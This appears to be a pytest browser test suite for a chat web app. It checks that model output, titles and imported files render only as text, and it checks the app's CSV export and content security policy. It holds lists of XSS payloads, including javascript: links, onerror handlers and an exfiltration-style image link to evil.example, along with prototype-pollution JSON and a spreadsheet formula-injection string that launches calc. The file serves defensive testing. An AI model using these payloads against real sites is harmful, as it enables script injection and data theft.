"""Text from a model, a title or a file never becomes markup, a formula or a prototype."""

import csv
import io
import json
import re

import httpx
import pytest

from scripted_server import words
from tessera_server import eventually

pytestmark = pytest.mark.browser

# Shapes of the OWASP filter-evasion sheet and of the advisories of Markdown renderers.
MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<object data='javascript:alert(1)'>", "<embed src='javascript:alert(1)'>", "<base href='//evil.example/'>",
    "<form action='javascript:alert(1)'><button>x", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>", "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>", "<!--><img src=x onerror=alert(1)>-->",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>", "</article></div><script>alert(1)</script>",
    "<div style='background:url(javascript:alert(1))'>", "<x contenteditable onblur=alert(1)>", "\u0000<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>",
]
LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "[x](blob:http://x/1)", "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))", "![x](https://evil.example/leak?q=1)", "![x\"onerror=\"alert(1)](x)",
    "[x][r]\n\n[r]: javascript:alert(1)", "<javascript:alert(1)>", "[x](x 'onmouseover=alert(1)')",
    "[x](https://a\" onclick=\"alert(1))", "[x](\u0001javascript:alert(1))", "[x](//evil.example)", "[x](?delete)",
    "[a](javascript\\:alert(1))", "[![x](x)](javascript:alert(1))", "# [x](javascript:alert(1))",
    "| [x](javascript:alert(1)) |\n|--|\n| <img src=x onerror=alert(1)> |",
]
CODE = ["```\"><img/src=x/onerror=alert(1)>\ncode\n```", "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`", "```__proto__\nx\n```", "    <script>alert(1)</script>",
        "```constructor\nx\n```"]
NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "{{7*7}}", "${alert(1)}", "%00", "\u202egpj.exe"]

# Elements and attributes that the page makes of an answer. All others are foreign.
FOREIGN = """
const tags = new Set(%s), names = new Set(%s);
return [...document.querySelectorAll('.message .body *')].flatMap((e) => [
  ...(tags.has(e.localName) ? [] : [e.localName]),
  ...[...e.attributes].filter((a) => !names.has(a.name)).map((a) => `${e.localName}@${a.name}`)]);
""" % (json.dumps(["div", "p", "ul", "ol", "li", "blockquote", "em", "strong", "s", "thead", "tbody", "tr", "th",
                   "td", "table", "h3", "h4", "h5", "h6", "pre", "code", "span", "button", "a", "br", "hr", "details",
                   "summary", "svg", "use", "b", "form", "textarea"]),
       json.dumps(["class", "href", "target", "rel", "start", "type", "tabindex", "role", "aria-label", "hidden",
                   "aria-hidden", "rows", "placeholder"]))


def check_untouched(page):
    assert page.js("return window.ran") == []
    assert page.js(FOREIGN) == []
    assert page.js("return [...document.querySelectorAll('.message a')].map(a => a.protocol)"
                   ".filter(p => !['http:', 'https:', 'mailto:'].includes(p))") == []
    assert page.js("return Object.keys(Object.prototype)") == []
    assert page.js("return ({}).polluted") is None
    assert page.js("return document.querySelectorAll('script').length") == 1
    assert page.js("return document.querySelectorAll('img, iframe, object, embed, link:not([rel=icon])').length") == 0
    assert not page.js("return window.violations"), "the policy had nothing to refuse"


@pytest.mark.parametrize("step", [1, 1000])
def test_model_output_is_text(page, scripted, step):
    shapes = MARKUP + LINKS + CODE + NAMES
    scripted.answers = lambda body: words("\n\n".join(shapes), step)
    page.ask("?")
    check_untouched(page)
    shown = page.texts(".message.assistant .body")[0]
    for shape in MARKUP:
        if shape[0] == "<":
            assert shape in shown, "other text than Markdown is shown as it was written"
    # Each shape alone: an earlier one must not hide a later.
    for shape in shapes if step > 1 else []:
        scripted.answers = lambda body: words(shape, step)
        page.js("document.querySelector('#new').click()")
        page.ask("?")
        check_untouched(page)


def test_reasoning_tools_and_errors_are_text(page, scripted):
    evil = "<img src=x onerror=alert(1)>"
    scripted.answers = lambda body: [{"choices": [{"index": 0, "delta": {
        "reasoning_content": evil, "content": evil, "tool_calls": [
            {"index": 0, "id": evil, "function": {"name": evil, "arguments": evil}},
            {"index": 1e9, "function": {"name": "__proto__", "arguments": '{"__proto__":{"polluted":1}}'}}]}}]},
        {"error": {"message": evil}}]
    page.ask(evil)
    check_untouched(page)
    assert page.texts(".note.error") == [evil]


@pytest.mark.parametrize("shape", MARKUP[:6] + NAMES)
def test_titles_are_text(page, shape):
    page.find("#input").send_keys("x")
    page.js("document.querySelector('#input').value = arguments[0]", shape)
    page.ask("")
    page.sidebar()
    eventually(lambda: page.all("#chats .open"), "the chat")
    check_untouched(page)
    assert page.js("return document.querySelectorAll('#sidebar img, #sidebar script, #top img').length") == 0


def message(**fields):
    return {"id": "a", "parent": None, "role": "user", "content": "Hi", **fields}


def exported(*messages, **fields):
    return {"format": "tessera-chats", "version": 1, "conversations": [
        {"id": "x", "title": "Imported", "messages": list(messages), "leaf": messages[-1].get("id"), **fields}]}


EVIL = "<img src=x onerror=alert(1)>"
POLLUTION = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'


def test_an_import_takes_only_what_it_knows(page, tmp_path):
    text = json.dumps(exported(
        message(content=EVIL, onclick="alert(1)"),
        {"id": "__proto__", "parent": "a", "role": "assistant", "content": "\n\n".join(MARKUP + LINKS),
         "state": "streaming", "figures": {"first": 1, "tokens": EVIL, "prompt": 9, "kv": {"policy": EVIL, "bytes": 5}}},
        title=EVIL, system=EVIL, settings={"temperature": EVIL, "top_p": 0.5, "evil": 1, "schema": POLLUTION}))
    text = text.replace('"evil": 1', f'"evil": 1, "__proto__": {{"polluted": 1, "temperature": 9}}')
    file = tmp_path / "evil.json"
    file.write_text(text)
    page.import_file(file)
    eventually(lambda: page.texts("#chats .open") == [EVIL], "the chat")
    page.click("#chats .open")
    eventually(lambda: len(page.all(".message")) == 2, "its messages")
    check_untouched(page)
    _, text = page.downloads(lambda: page.menu("Export as JSON"))
    back = json.loads(text)["conversations"][0]
    assert back["settings"] == {"top_p": 0.5, "schema": POLLUTION}
    assert set(back["messages"][0]) == {"id", "parent", "role", "content"}
    assert back["id"] != "x" and back["messages"][1]["id"] not in ("a", "__proto__")
    check_untouched(page)


@pytest.mark.parametrize("text,told", [
    ("", "not JSON"), ("[1]", "not an export"), ("null", "not an export"), ("x" * 1000, "not JSON"),
    (json.dumps({"format": "tessera-chats", "version": 2, "conversations": []}), "version 2"),
    (json.dumps({"format": "tessera-chats", "version": 1, "conversations": {}}), "not an export"),
    (json.dumps(exported(message(role="system"))), "message 1: its role"),
    (json.dumps(exported(message(parent="b"), message(id="b"))), "message 1: its parent"),
    (json.dumps(exported(message(parent="a"))), "message 1: its parent"),
    (json.dumps(exported({"role": "__proto__"})), "message 1: its role"),
    ("[" * 100_000, "not JSON")])
def test_a_file_that_is_no_export_is_refused(page, tmp_path, text, told):
    file = tmp_path / "file.json"
    file.write_text(text or " ")
    page.import_file(file)
    eventually(lambda: page.all("#toasts .alert"), "the error")
    assert told in page.texts("#toasts .alert")[0]
    assert page.texts("#chats .open") == []


FORMULAS = ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "  =1", '=HYPERLINK("http://x","y")',
            'a","=1', "line\n=1"]


def test_a_spreadsheet_computes_nothing_of_an_export(page, scripted):
    answers = iter(FORMULAS)
    scripted.answers = lambda body: words(next(answers), 1000)
    for _ in FORMULAS:
        page.ask("=2+2")
    _, text = page.downloads(lambda: page.menu("Export figures as CSV"))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 2 * len(FORMULAS), "no text leaves its cell"
    for row in rows[1:]:
        assert not re.match(r"\s*[=+\-@\t\r]", row[1]), row[1]
    assert [row[1].removeprefix("'") for row in rows[2::2]] == FORMULAS


def test_the_policy_forbids_what_is_not_the_page(page, server):
    policy = httpx.get(server.http + "/").headers["content-security-policy"]
    assert "unsafe" not in policy and "default-src 'none'" in policy
    script = page.js("""
      window.violations = [];
      const s = document.createElement('script');
      try { s.textContent = 'window.ran.push("script")'; } catch {}
      document.head.append(s);
      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran.push(1)">'); } catch {}
      try { document.body.innerHTML += '<b>'; } catch {}
      // Text as a program; eval() itself is free to the driver's scripts.
      try { setTimeout('ran.push("timer")', 0); } catch {}
      const b = document.createElement('button');
      try { b.setAttribute('onclick', 'ran.push("handler")'); } catch {}
      b.click();
      const i = new Image(); i.src = 'http://evil.example/';
      return fetch('http://127.0.0.2:1/').catch(() => 'refused')
        .then((r) => new Promise((resolve) => setTimeout(() => resolve([r, window.ran]), 200)));
    """)
    assert script == ["refused", []]
    eventually(lambda: {"connect-src", "img-src", "require-trusted-types-for"} <= set(page.js("return window.violations")),
               "the policy refuses")
    page.errors()  # those of this test
    icon = httpx.get(server.http + "/favicon.ico")
    assert icon.status_code == 200 and icon.headers["content-type"] == "image/svg+xml"
